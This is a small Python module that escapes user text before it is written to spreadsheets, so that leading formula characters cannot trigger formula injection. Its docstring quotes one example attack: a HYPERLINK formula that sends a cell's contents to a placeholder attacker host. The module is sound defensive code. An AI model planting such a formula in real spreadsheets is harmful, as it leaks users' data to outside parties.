"""One escaping helper for every spreadsheet the system writes.

A cell whose text starts with «=», «+», «-», «@», a tab or a carriage return would be taken by a
spreadsheet program as a formula (formula injection: `=HYPERLINK("http://evil.example/?"&B5)`).
Every writer passes user text through `safe_cell` (or a whole row through `safe_row`); openpyxl
then stores it as a string, never as a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(DANGEROUS_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for `Worksheet.append` with every cell escaped."""
    return [safe_cell(v) for v in values]
